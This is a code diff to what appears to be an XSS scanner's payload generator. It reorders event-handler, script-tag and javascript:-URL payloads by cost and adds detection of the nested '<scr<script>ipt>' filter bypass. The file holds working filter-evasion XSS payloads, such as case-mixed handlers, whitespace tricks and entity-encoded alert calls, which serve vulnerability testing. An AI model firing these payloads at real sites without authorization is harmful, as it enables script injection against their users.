@@ -10,7 +10,8 @@ from collections.abc import Iterator
 
 import msgspec
 
-from securestack.probing.html_context import Context, Meaning, Occurrence
+from securestack.probing.html_context import Context, Occurrence
+from securestack.probing.html_meaning import Meaning
 from securestack.probing.html_tokens import RAWTEXT_ELEMENTS, RCDATA_ELEMENTS
 from securestack.probing.xss_filter import features
 from securestack.probing.xss_script import Place, Spot, pieces
@@ -27,24 +28,25 @@ _REFERENCE_CALLS = (
     f"&#97;&#108;&#101;&#114;&#116;&#40;{MARK}&#41;",
 )
 _ATTRIBUTE_CALLS = (*_CALLS, _THROW, *_REFERENCE_CALLS)
+# With what each costs: what filters differ on comes early, variants of the same late.
 _HANDLER_MARKUP = (
-    "<svg onload={}>",
-    "<svg/onload={}>",
-    "<img src=x onerror={}>",
-    "<sVg OnLoAd={}>",
-    "<svg\nonload={}\n>",
-    "<svg\tonload={}>",
-    "<svg\fonload={}>",
-    "<svg onload={} //",
-    "<details open ontoggle={}>",
-    "<body onpageshow={}>",
-    "<iframe onload={}>",
+    ("<svg onload={}>", 0),
+    ("<svg onload={} //", 3),
+    ("<svg/onload={}>", 5),
+    ("<img src=x onerror={}>", 7),
+    ("<sVg OnLoAd={}>", 9),
+    ("<svg\nonload={}\n>", 11),
+    ("<svg\tonload={}>", 13),
+    ("<svg\fonload={}>", 14),
+    ("<details open ontoggle={}>", 19),
+    ("<body onpageshow={}>", 21),
+    ("<iframe onload={}>", 23),
 )
 _SCRIPT_MARKUP = (
-    "<script>{}</script>",
-    "<ScRiPt>{}</sCrIpT>",
-    "<scr<script>ipt>{}</scr</script>ipt>",
-    "<script >{}</script >",
+    ("<script>{}</script>", 2),
+    ("<ScRiPt>{}</sCrIpT>", 5),
+    ("<scr<script>ipt>{}</scr</script>ipt>", 8),
+    ("<script >{}</script >", 11),
 )
 _ADDRESS_MARKUP = ("<a href=javascript:{}>x</a>", "<iframe src=javascript:{}>")
 _VB_CALL = f"MsgBox({MARK})"
@@ -65,6 +67,11 @@ class Payload(msgspec.Struct, frozen=True):
     escapes: str = ""
     padded: bool = False
     family: str = "inside"
+
+    @property
+    def is_nested(self) -> bool:
+        """Whether a tag is split around another, so that a filter which removes that one puts it together."""
+        return "<scr<script>" in self.template
 
     def value(self, marker: str) -> str:
         """Return what to send, with this attempt's number in it."""
@@ -112,16 +119,14 @@ def _payload(
 def _markup(before: str, cost: int = 0) -> Iterator[Payload]:
     """Yield new elements, behind what leaves the present one."""
     for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
-        for vehicle_cost, vehicle in enumerate(_HANDLER_MARKUP):
-            step = 3 if vehicle_cost else 0  # a script element comes second: filters differ on the two
-            total = cost + 2 * vehicle_cost + step + 4 * call_cost
+        for vehicle, vehicle_cost in _HANDLER_MARKUP:
+            total = cost + vehicle_cost + 4 * call_cost
             yield _payload(before + vehicle.format(call), total, family="handler")
-        for vehicle_cost, vehicle in enumerate(_ADDRESS_MARKUP):
-            total = cost + 24 + vehicle_cost + 4 * call_cost
-            yield _payload(before + vehicle.format(call), total, family="address")
+        for vehicle in _ADDRESS_MARKUP:
+            yield _payload(before + vehicle.format(call), cost + 24 + 4 * call_cost, family="address")
     for call_cost, call in enumerate((*_CALLS, _THROW)):
-        for vehicle_cost, vehicle in enumerate(_SCRIPT_MARKUP):
-            total = cost + 2 + 3 * vehicle_cost + 4 * call_cost
+        for vehicle, vehicle_cost in _SCRIPT_MARKUP:
+            total = cost + vehicle_cost + 4 * call_cost
             yield _payload(before + vehicle.format(call), total, family="script")
 
 
@@ -253,7 +258,8 @@ def _javascript(place: Place, after: str, calls: tuple[str, ...]) -> Iterator[Pa
     for call_cost, call in enumerate(calls):
         for cost, (text, escapes) in enumerate(_breaks(place, after, call)):
             needs = text.replace("\\", "") if escapes else text
-            yield _payload(text, 2 * cost + 3 * call_cost, inner=True, needs=needs, escapes=escapes)
+            total = 2 * cost + 3 * call_cost
+            yield _payload(text, total, inner=True, needs=needs, escapes=escapes, family=f"inside {cost}")
     if place.spot in (Spot.SINGLE, Spot.DOUBLE) and not place.brackets:
         quote = "'" if place.spot is Spot.SINGLE else '"'
         yield _payload(f"{quote};{_THROW}//", 12, inner=True)
